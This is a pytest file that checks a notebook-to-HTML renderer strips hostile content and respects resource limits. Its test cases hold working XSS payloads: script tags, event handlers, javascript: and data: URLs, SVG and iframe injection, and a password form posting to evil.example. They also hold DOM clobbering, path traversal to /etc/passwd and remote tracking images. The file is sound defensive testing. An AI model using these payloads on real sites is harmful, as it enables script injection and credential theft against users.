"""Hostile notebooks: whatever an author puts in, the rendered HTML runs nothing, loads nothing,
links nowhere dangerous and cannot forge the cell anchors that review comments point at.

One notebook holds most attacks, one cell each, and is rendered once through the same child
process the worker uses; each test then looks at the parsed final HTML of its own cell.
"""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from collections.abc import Callable
from typing import Any

import pytest
from nbformat import v4

import submissions.rendering.sandbox as sandbox
from courses.plain_i18n import Message
from submissions.intake.notebooks import IntakeLimits
from submissions.rendering import (
    RenderLimits,
    prefilter,
    prestart_renderer,
    render_fragment,
    render_in_subprocess,
    stop_prestarted_renderer,
)
from tests.submissions.notebook_html import (
    GIF,
    PNG,
    SVG_WITH_SCRIPT,
    Cell,
    assert_safe,
    notebook,
    parse,
    python_notebook,
    to_bytes,
)

JS_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
REMOTE = "https://tracker.example/beacon.png"

# name -> cell; the order is the cell number (1-based), so tests can find their cell.
CASES: dict[str, Any] = {
    "script tags": v4.new_markdown_cell(
        "before <script>alert('md')</script> after\n\n<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"
    ),
    "event handlers": v4.new_markdown_cell(
        '<img src=x onerror="alert(1)"> <div onclick="alert(2)" onmouseover=alert(3)>hover</div>'
        '<details open ontoggle="alert(4)"><summary>sum</summary>body</details>'
        '<a href="https://ok.example" onfocus="alert(5)" autofocus>focus</a>'
    ),
    "markdown links": v4.new_markdown_cell(
        " ".join(f"[l{n}](<{url}>)" for n, url in enumerate(JS_URLS))
        + " [fine](https://example.org/page) [mail](mailto:tutor@example.org) [top](#cell-1)"
    ),
    "html links": v4.new_markdown_cell(
        " ".join(f'<a href="{url}">h{n}</a>' for n, url in enumerate(JS_URLS))
        + ' <a href="java&#x09;script:alert(1)">entity</a>'
        + ' <a href="https://example.org" target="_blank" rel="opener">blank</a>'
        + ' <a href="secret.html">relative</a> <a href="//evil.example/x">protocol-relative</a>'
    ),
    "inline svg in markdown": v4.new_markdown_cell(
        'svg: <svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)">'
        "<text>svgtext</text></a><foreignObject><img src=x onerror=alert(4)></foreignObject></svg> end"
    ),
    "mathml": v4.new_markdown_cell(
        '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">'
        "<mtext>m</mtext></maction></math> plain"
    ),
    "iframes": v4.new_markdown_cell(
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>'
        '<iframe src="https://evil.example"></iframe><frameset><frame src="https://evil.example">'
        " framed"
    ),
    "object and embed": v4.new_markdown_cell(
        '<object data="https://evil.example/x.swf">objfallback</object>'
        '<embed src="https://evil.example/x.swf"><applet code="X">applet</applet> objects'
    ),
    "meta and base": v4.new_markdown_cell(
        '<meta http-equiv="refresh" content="0;url=https://evil.example">'
        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">'
        " headstuff"
    ),
    "forms": v4.new_markdown_cell(
        '<form action="https://evil.example/steal"><input name="password" type="password">'
        '<button formaction="https://evil.example/b">Send</button><textarea>t</textarea></form>'
        " formtext"
    ),
    "styles": v4.new_markdown_cell(
        "<style>body { background: url(https://evil.example/bg.png) }</style>"
        '<p style="background-image: url(https://evil.example/p.png); position: fixed">styled</p>'
    ),
    "dom clobbering": v4.new_markdown_cell(
        '<div id="cell-1" data-cell="1">fake one</div><a id="cell-2" name="cell-3">clobber</a>'
        '<img name="getElementById" src="data:image/png;base64,' + PNG + '">'
        '<form name="forms"><input name="attributes"></form><p id="x" data-anchor-0="9">ids</p>'
    ),
    "remote images": v4.new_markdown_cell(
        f'<img src="{REMOTE}"> ![beacon](http://tracker.example/md.png) '
        f'<img srcset="{REMOTE} 2x"> <picture><source srcset="{REMOTE}"></picture>'
        f'<video poster="{REMOTE}"></video><table background="{REMOTE}"><tr><td>t</td></tr></table>'
        '<img src="data:image/svg+xml;base64,' + SVG_WITH_SCRIPT + '"> remote'
    ),
    "attachments": v4.new_markdown_cell(
        "![svg](attachment:evil.svg) ![html](attachment:page) ![none](attachment:empty) "
        "![bad](attachment:bad.png) ![missing](attachment:nothere.png) "
        "![good](attachment:good.gif) attachments",
        attachments={
            "evil.svg": {"image/svg+xml": SVG_WITH_SCRIPT},
            "page": {"text/html": base64.b64encode(b"<script>alert(1)</script>").decode()},
            "empty": {},
            "bad.png": {"image/png": "!!! not base64 <script>"},
            "good.gif": {"image/gif": GIF},
        },
    ),
    "file beside the notebook": v4.new_markdown_cell(
        "![secret](secret.png) <img src='../../etc/passwd'> [doc](notes.pdf) beside"
    ),
    "hostile outputs": v4.new_code_cell(
        "show()",
        execution_count=1,
        outputs=[
            v4.new_output("display_data", data={"application/javascript": "alert('js')"}),
            v4.new_output(
                "display_data",
                data={"image/svg+xml": '<svg onload="alert(1)"><script>alert(2)</script></svg>'},
            ),
            v4.new_output(
                "display_data",
                data={
                    "text/markdown": "md-output <script>alert(3)</script> [x](javascript:alert(4))"
                },
            ),
            v4.new_output("display_data", data={"text/vnd.mermaid": "graph TD; A-->B"}),
            v4.new_output(
                "display_data",
                data={
                    "application/vnd.jupyter.widget-view+json": {
                        "model_id": "abc",
                        "version_major": 2,
                    },
                    "text/plain": "IntSlider(value=3)",
                },
            ),
            v4.new_output(
                "execute_result",
                execution_count=1,
                data={
                    "text/html": "<b>html-output</b><script>alert(5)</script><img src=x onerror=alert(6)>"
                    '<iframe src="https://evil.example"></iframe>',
                    "text/plain": "<IPython.core.display.HTML object>",
                },
                metadata={"text/html": {"isolated": True}},
            ),
            v4.new_output("display_data", data={"text/latex": r"$<script>alert(7)</script>$"}),
            v4.new_output("display_data", data={"application/pdf": "JVBERi0="}),
        ],
    ),
    "string image sizes": v4.new_code_cell(
        "plot()",
        outputs=[
            v4.new_output(
                "display_data",
                data={"image/png": PNG},
                metadata={
                    "image/png": {"width": '100" onerror="alert(1)', "height": "50%"},
                    "filenames": {"image/png": "../../secret.png"},
                    "unconfined": True,
                },
            ),
            v4.new_output(
                "display_data", data={"image/png": PNG}, metadata={"width": 640, "height": 480.5}
            ),
        ],
    ),
    "raw cells": v4.new_raw_cell("raw <script>alert(1)</script> <b>rawbold</b>"),
    "wrapper breakout": v4.new_markdown_cell("inside " + "</div>" * 8 + "spilled <div><p>unclosed"),
    "output breakout": v4.new_code_cell(
        "x",
        outputs=[
            v4.new_output("display_data", data={"text/html": "</pre>" + "</div>" * 10 + "escaped"})
        ],
    ),
}
NUMBER = {name: index for index, name in enumerate(CASES, start=1)}


@pytest.fixture(scope="module", params=["a fresh child", "a child started ahead"])
def hostile_html(request: pytest.FixtureRequest) -> str:
    """The hostile notebook rendered by each kind of child the worker uses (docs/rendering.md)."""
    nb = python_notebook(*CASES.values())
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"x": {"model_name": "</script><script>alert('widget')</script>"}},
            "version_major": 2,
        }
    }
    limits = RenderLimits(wall_seconds=60)
    if request.param == "a child started ahead":
        prestart_renderer(limits)
    try:
        result = render_in_subprocess(to_bytes(nb), limits)
    finally:
        stop_prestarted_renderer()
    assert result.ok, result.error
    return result.html


@pytest.fixture(scope="module")
def cells(hostile_html: str) -> dict[int, Cell]:
    return parse(hostile_html).cells


def cell_of(cells: dict[int, Cell], case: str) -> Cell:
    return cells[NUMBER[case]]


def test_the_rendered_notebook_obeys_every_safety_rule(hostile_html: str) -> None:
    assert_safe(hostile_html)


def test_every_cell_keeps_its_own_anchor_in_order_and_no_forged_one_survives(
    hostile_html: str,
) -> None:
    parsed = parse(hostile_html)

    assert parsed.anchor_order == list(range(1, len(CASES) + 1))
    ids = [element.attrs["id"] for element in parsed.elements if "id" in element.attrs]
    assert ids == [f"cell-{n}" for n in range(1, len(CASES) + 1)]
    wrappers = [element for element in parsed.elements if "data-cell" in element.attrs]
    assert [(w.tag, w.attrs["data-cell"]) for w in wrappers] == [
        ("div", str(n)) for n in range(1, len(CASES) + 1)
    ]


@pytest.mark.parametrize(
    ("case", "text"), [("wrapper breakout", "spilled"), ("output breakout", "escaped")]
)
def test_stray_closing_tags_cannot_move_content_out_of_its_cell(
    cells: dict[int, Cell], case: str, text: str
) -> None:
    assert text in cell_of(cells, case).text
    assert all(text not in cell.text for number, cell in cells.items() if number != NUMBER[case])


def test_dom_clobbering_ids_and_names_are_removed(cells: dict[int, Cell]) -> None:
    cell = cell_of(cells, "dom clobbering")

    assert "fake one" in cell.text and "clobber" in cell.text and "ids" in cell.text
    assert all("name" not in element.attrs for element in cell.elements)
    assert [element.attrs.get("id") for element in cell.elements if "id" in element.attrs] == [
        f"cell-{NUMBER['dom clobbering']}"
    ]


def test_script_content_is_removed_and_the_text_around_it_kept(cells: dict[int, Cell]) -> None:
    cell = cell_of(cells, "script tags")

    assert "before" in cell.text and "after" in cell.text
    assert "alert" not in cell.text


def test_event_handlers_are_removed_and_the_elements_kept(cells: dict[int, Cell]) -> None:
    cell = cell_of(cells, "event handlers")

    assert "hover" in cell.text and "body" in cell.text
    assert cell.find("details") and cell.find("summary")
    assert all(not name.startswith("on") for e in cell.elements for name in e.attrs)
    assert all("autofocus" not in e.attrs for e in cell.elements)


@pytest.mark.parametrize("case", ["markdown links", "html links"])
def test_script_and_data_urls_lose_their_href_and_safe_links_keep_theirs(
    cells: dict[int, Cell], case: str
) -> None:
    links = cell_of(cells, case).find("a")
    hrefs = [link.attrs.get("href") for link in links]

    assert not any(
        href and ("script" in href.lower() or href.startswith("data:")) for href in hrefs
    )
    assert all(link.attrs.get("rel") == "noopener noreferrer nofollow" for link in links)
    assert all("target" not in link.attrs for link in links)
    if case == "markdown links":
        assert "https://example.org/page" in hrefs
        assert "mailto:tutor@example.org" in hrefs
        assert "#cell-1" in hrefs
    else:
        assert "https://example.org" in hrefs
        assert "secret.html" not in hrefs and "//evil.example/x" not in hrefs


@pytest.mark.parametrize(
    ("case", "kept_text"),
    [
        ("inline svg in markdown", "end"),
        ("mathml", "plain"),
        ("iframes", "framed"),
        ("object and embed", "objects"),
        ("meta and base", "headstuff"),
        ("forms", "formtext"),
    ],
)
def test_active_and_embedding_elements_are_removed_with_what_they_carry(
    cells: dict[int, Cell], case: str, kept_text: str
) -> None:
    cell = cell_of(cells, case)

    assert kept_text in cell.text
    tags = {element.tag for element in cell.elements}
    assert not tags & {
        "svg",
        "math",
        "iframe",
        "frame",
        "object",
        "embed",
        "applet",
        "meta",
        "base",
        "link",
        "form",
        "input",
        "button",
        "textarea",
        "script",
    }
    assert "alert" not in cell.text


def test_style_elements_and_attributes_are_removed(cells: dict[int, Cell]) -> None:
    cell = cell_of(cells, "styles")

    assert "styled" in cell.text
    assert "evil.example" not in cell.text
    assert all("style" not in element.attrs for element in cell.elements)


def test_remote_images_keep_no_source_so_nothing_is_fetched(cells: dict[int, Cell]) -> None:
    cell = cell_of(cells, "remote images")

    for element in cell.elements:
        for name in ("src", "srcset", "poster", "background"):
            assert "tracker.example" not in (element.attrs.get(name) or "")
    assert not any(
        (img.attrs.get("src") or "").startswith("data:image/svg") for img in cell.find("img")
    )
    assert "remote" in cell.text


def test_only_png_jpeg_and_gif_attachments_with_valid_base64_are_shown(
    cells: dict[int, Cell],
) -> None:
    images = cell_of(cells, "attachments").find("img")
    sources = {img.attrs.get("alt"): img.attrs.get("src") for img in images}

    assert sources["good"] == f"data:image/gif;base64,{GIF}"
    for alt in ("svg", "html", "none", "bad", "missing"):
        assert sources[alt] is None, alt


def test_a_markdown_image_of_a_file_beside_the_notebook_is_never_resolved(
    cells: dict[int, Cell],
) -> None:
    cell = cell_of(cells, "file beside the notebook")

    # A plain relative name becomes an inert course-file reference (only the serving view
    # resolves it, against the assignment's course files); a path that climbs out is dropped.
    sources = [img.attrs.get("src") for img in cell.find("img")]
    assert sources == ["course-file:secret.png", None]
    assert all("href" not in a.attrs for a in cell.find("a"))
    assert "beside" in cell.text


def test_script_carrying_output_types_are_dropped_and_safe_fallbacks_shown(
    cells: dict[int, Cell],
) -> None:
    cell = cell_of(cells, "hostile outputs")

    assert "alert('js')" not in cell.text
    assert "graph TD" not in cell.text  # mermaid is dropped, not shown as text
    assert "IntSlider(value=3)" in cell.text  # a widget's text fallback
    assert "md-output" in cell.text
    assert "html-output" in cell.text
    assert "<script>alert(7)</script>" in cell.text  # LaTeX is shown as escaped source
    assert not any((img.attrs.get("src") or "") == "x" for img in cell.find("img"))
    assert "JVBERi0" not in cell.text


def test_widget_state_never_reaches_the_page(hostile_html: str) -> None:
    assert "widget" not in parse(hostile_html).text
    assert "widget-state" not in hostile_html


def test_string_image_sizes_are_dropped_and_integer_sizes_kept(cells: dict[int, Cell]) -> None:
    first, second = cell_of(cells, "string image sizes").find("img")

    assert first.attrs["src"] == f"data:image/png;base64,{PNG}"
    assert "width" not in first.attrs and "height" not in first.attrs
    assert "onerror" not in first.attrs
    assert (second.attrs.get("width"), second.attrs.get("height")) == ("640", None)


def test_raw_cells_are_sanitized_like_any_other_html(cells: dict[int, Cell]) -> None:
    cell = cell_of(cells, "raw cells")

    assert "rawbold" in cell.text and cell.find("b")
    assert "alert" not in cell.text


def test_the_prefilter_keeps_only_renderable_data_and_leaves_its_input_alone() -> None:
    nb = python_notebook(*CASES.values())
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {}}
    before = json.dumps(nb, sort_keys=True)

    filtered = prefilter(nb)

    assert json.dumps(nb, sort_keys=True) == before
    assert list(filtered.metadata) == ["language_info"]
    assert len(filtered.cells) == len(CASES)
    mime_types = {
        mime
        for cell in filtered.cells
        for output in cell.get("outputs", [])
        for mime in output.get("data", {})
    }
    assert mime_types <= {
        "text/plain",
        "text/html",
        "text/markdown",
        "text/latex",
        "image/png",
        "image/jpeg",
        "image/gif",
    }
    sizes = filtered.cells[NUMBER["string image sizes"] - 1].outputs
    assert [output.metadata for output in sizes] == [{}, {"image/png": {"width": 640}}]
    attachments = filtered.cells[NUMBER["attachments"] - 1].attachments
    assert attachments == {"good.gif": {"image/gif": GIF}}
    assert all(cell.metadata in ({}, {"raw_mimetype": "text/html"}) for cell in filtered.cells)


# --- cost: what a crafted notebook can make the renderer spend ----------------------------


def test_pathological_markdown_renders_safely_within_the_limits() -> None:
    # Sizes are kept moderate so the suite stays fast; at the 200,000-character cap each of
    # these still renders in well under a second.
    nb = notebook(
        v4.new_markdown_cell("[" * 20_000),
        v4.new_markdown_cell("![" * 10_000),
        v4.new_markdown_cell("".join("  " * depth + "- item\n" for depth in range(400))),
        v4.new_markdown_cell(">" * 50_000 + " quoted"),
        v4.new_markdown_cell("<div>" * 39_000 + "deep"),
        v4.new_markdown_cell("<span>" * 5_000 + "<blockquote>" * 1_000),
        v4.new_markdown_cell("*a " * 10_000),
        v4.new_markdown_cell("<b></p>" * 5_000),
    )

    result = render_in_subprocess(to_bytes(nb), RenderLimits(cpu_seconds=30, wall_seconds=45))

    assert result.ok, result.error
    assert_safe(result.html)
    parsed = parse(result.html)
    assert parsed.anchor_order == list(range(1, 9))
    assert "nested too deeply to be displayed" in parsed.cells[5].text


def markdown_cells(count: int) -> list[dict[str, Any]]:
    # Plain dicts: nbformat's new_*_cell validates every cell, which costs seconds at this count.
    return [
        {"cell_type": "markdown", "id": f"m{n}", "metadata": {}, "source": f"m{n}"}
        for n in range(count)
    ]


def slow_markdown_notebook() -> bytes:
    # Each cell costs mistune seconds of CPU (quadratic link parsing), well under the size caps.
    return to_bytes(notebook(*[v4.new_markdown_cell("[a](" * 49_000) for _ in range(12)]))


def test_a_render_over_its_cpu_limit_is_stopped_with_a_human_message() -> None:
    result = render_in_subprocess(
        slow_markdown_notebook(), RenderLimits(cpu_seconds=1, wall_seconds=30)
    )

    assert (result.ok, result.html) == (False, "")
    assert str(result.error) == "This notebook could not be rendered (it took too long)."


def test_a_render_over_its_wall_clock_is_killed_with_a_human_message() -> None:
    result = render_in_subprocess(
        slow_markdown_notebook(), RenderLimits(cpu_seconds=60, wall_seconds=1)
    )

    assert (result.ok, result.html) == (False, "")
    assert str(result.error) == "This notebook could not be rendered (it took too long)."


def test_a_child_that_cannot_get_the_memory_it_needs_fails_with_an_answer() -> None:
    # Too little address space for the interpreter's own imports: the child dies early.
    result = render_in_subprocess(
        to_bytes(notebook(v4.new_markdown_cell("hi"))), RenderLimits(memory_bytes=30_000_000)
    )

    assert not result.ok
    assert result.html == ""
    assert str(result.error) in (
        "This notebook could not be rendered.",  # died while importing
        "This notebook could not be rendered (it needs too much memory).",
    )


def test_running_out_of_memory_while_rendering_is_reported_as_such(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import submissions.rendering.pipeline as pipeline
    from submissions.rendering import child

    def exhausted(nb: Any) -> str:
        raise MemoryError

    monkeypatch.setattr(pipeline, "render_fragment", exhausted)

    answer = child._render(to_bytes(notebook(v4.new_markdown_cell("hi"))), {})

    assert (answer["ok"], answer["html"]) == (False, "")
    assert Message.from_data(answer["error"]).text() == (
        "This notebook could not be rendered (it needs too much memory)."
    )


def test_huge_stream_output_renders_through_the_child_process() -> None:
    # Thousands of colour changes (nbconvert's own ANSI filter is quadratic in them) and
    # megabytes of text, in many small stream outputs that Jupyter shows as one.
    chunks = [f"step \x1b[32m{n}\x1b[0m done\n" for n in range(5_000)] + ["z" * 3_000_000]
    outputs = [{"output_type": "stream", "name": "stdout", "text": chunk} for chunk in chunks]
    nb = python_notebook(v4.new_code_cell("train()"))
    nb.cells[0].outputs = outputs  # plain dicts: new_output validates each, slowly

    result = render_in_subprocess(json.dumps(nb).encode())

    assert result.ok, result.error
    assert_safe(result.html)
    cell = parse(result.html).cells[1]
    assert len(cell.find("pre")) == 2  # the code, and one merged stream
    assert "step 4999 done" in cell.text


def test_twenty_thousand_cells_are_refused_by_the_intake_check_in_the_child() -> None:
    result = render_in_subprocess(json.dumps(notebook(*markdown_cells(20_000))).encode())

    assert not result.ok
    assert str(result.error) == (
        "This notebook could not be rendered. "
        "This notebook has 20,000 cells, over the limit of 2,000."
    )


def test_thousands_of_cells_each_keep_their_anchor() -> None:
    cells = markdown_cells(600)
    for number in range(0, len(cells), 2):
        cells[number] = {
            "cell_type": "code",
            "id": f"k{number}",
            "metadata": {},
            "source": f"c{number}",
            "outputs": [],
            "execution_count": None,
        }

    parsed = parse(render_fragment(notebook(*cells)))

    assert parsed.anchor_order == list(range(1, 601))
    assert "m599" in parsed.cells[600].text


def test_what_is_not_a_notebook_becomes_an_error_answer() -> None:
    result = render_in_subprocess(b"\x89PNG\r\n\x1a\n")

    assert (result.ok, result.html) == (False, "")
    assert str(result.error) == (
        "This notebook could not be rendered. This file is not a Jupyter notebook: "
        "it is not UTF-8 text (unreadable byte at position 0)."
    )


def test_the_child_runs_isolated_with_a_minimal_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    seen: dict[str, Any] = {}
    real_popen: Callable[..., subprocess.Popen[bytes]] = subprocess.Popen

    def spy(command: list[str], **kwargs: Any) -> subprocess.Popen[bytes]:
        seen["command"], seen["kwargs"] = command, kwargs
        return real_popen(command, **kwargs)

    monkeypatch.setenv("SECRET_KEY", "do-not-leak")
    monkeypatch.setattr(subprocess, "Popen", spy)

    result = render_in_subprocess(to_bytes(notebook(v4.new_markdown_cell("hi"))))

    assert result.ok, result.error
    assert seen["command"][1:3] == ["-I", "-B"]
    assert "SECRET_KEY" not in seen["kwargs"]["env"]
    assert set(seen["kwargs"]["env"]) == {"PATH", "LANG", "LC_ALL"}
    assert seen["kwargs"]["start_new_session"] is True


def test_the_child_can_import_the_renderer_without_django_or_the_project_platform() -> None:
    # The bootstrap appends the project root, so the standard library's platform module wins
    # and nothing pulls in Django (whose settings the child must never see).
    setup = sandbox._BOOTSTRAP.split("from submissions")[0]  # the child's own sys.path set-up
    probe = setup + (
        "import submissions.rendering.child, platform; "
        "print('django' in sys.modules, hasattr(platform, 'settings'), platform.system())"
    )

    completed = subprocess.run(
        [sys.executable, "-I", "-B", "-c", probe, str(sandbox.PROJECT_ROOT)],
        capture_output=True,
        text=True,
        check=True,
        env={"PATH": "/usr/bin:/bin"},
    )

    assert completed.stdout.split() == ["False", "False", "Linux"]


def test_the_intake_limits_the_site_accepted_under_are_the_ones_the_child_applies() -> None:
    nb = notebook(*[v4.new_markdown_cell(f"c{n}") for n in range(30)])

    refused = render_in_subprocess(to_bytes(nb), intake_limits=IntakeLimits(max_cells=10))

    assert not refused.ok
    assert str(refused.error).endswith("This notebook has 30 cells, over the limit of 10.")
